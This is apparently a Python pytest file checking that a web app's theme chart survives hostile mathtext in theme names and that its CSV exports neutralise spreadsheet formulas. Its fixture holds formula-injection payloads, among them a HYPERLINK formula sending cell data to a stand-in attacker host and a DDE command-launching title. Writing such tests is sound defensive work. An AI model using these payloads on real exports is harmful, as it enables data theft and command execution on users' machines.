"""Item 9: user text never reaches matplotlib's mathtext, and CSV exports never
carry a formula. An upload with hostile theme names (from its front matter) and a
hostile title must not break the theme chart for anyone (it answered 500), and a
spreadsheet opening an export must show every cell as text."""
from __future__ import annotations

import csv
import io

import pytest

from security_world import add_document
from theme_docs import settle_themes

HOSTILE_THEMES = ["$\\foo$", "$x^2$ en $", '=HYPERLINK("http://aanvaller.example/?"&A1;"klik")', "+31 6 1234",
                  "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
EXPORTS = [f"/themas/export.csv?wat={what}" for what in ("matrix", "passages")] + \
          [f"/api/themes/export?what={what}&format=csv" for what in ("matrix", "passages")]


@pytest.fixture
def hostile(world, tmp_path):
    add_document(world, tmp_path / "in", "zuid/vijandig.md",
                 "De buurtwerker sprak met de mantelzorger over eenzaamheid en de thuiszorg.",
                 "Wijkteam Zuid", {"title": "=cmd|' /C calc'!A0", "themes": HOSTILE_THEMES})
    return world


def test_hostile_theme_names_and_titles_neither_break_the_chart_nor_run_in_a_spreadsheet(hostile):
    """One test, because tagging the world's passages (the theme views need it) is slow."""
    researcher = hostile.client("onderzoeker")
    settle_themes(researcher)
    chart = researcher.get("/themas/grafiek.svg?netwerk=1")   # the network view: the hostile group's rows in it
    assert chart.status_code == 200 and chart.content.lstrip().startswith(b"<?xml")
    assert researcher.get("/themas").status_code == 200
    themes = {row["theme"] for row in researcher.get("/api/themes?netwerk=1").json()["matrices"][0]["themes"]}
    assert "$\\foo$" in themes   # positive control: the hostile name is in the chart's rows
    cells = []
    for url in EXPORTS:
        response = researcher.get(url)
        assert response.status_code == 200, url
        rows = list(csv.reader(io.StringIO(response.text)))
        cells += [(url, cell) for row in rows for cell in row]
    assert [c for c in cells if c[1].startswith(FORMULA_STARTS)] == []
    texts = {cell for _, cell in cells}
    assert "'" + HOSTILE_THEMES[2] in texts and "'@SUM(A1:A9)" in texts   # kept, as text
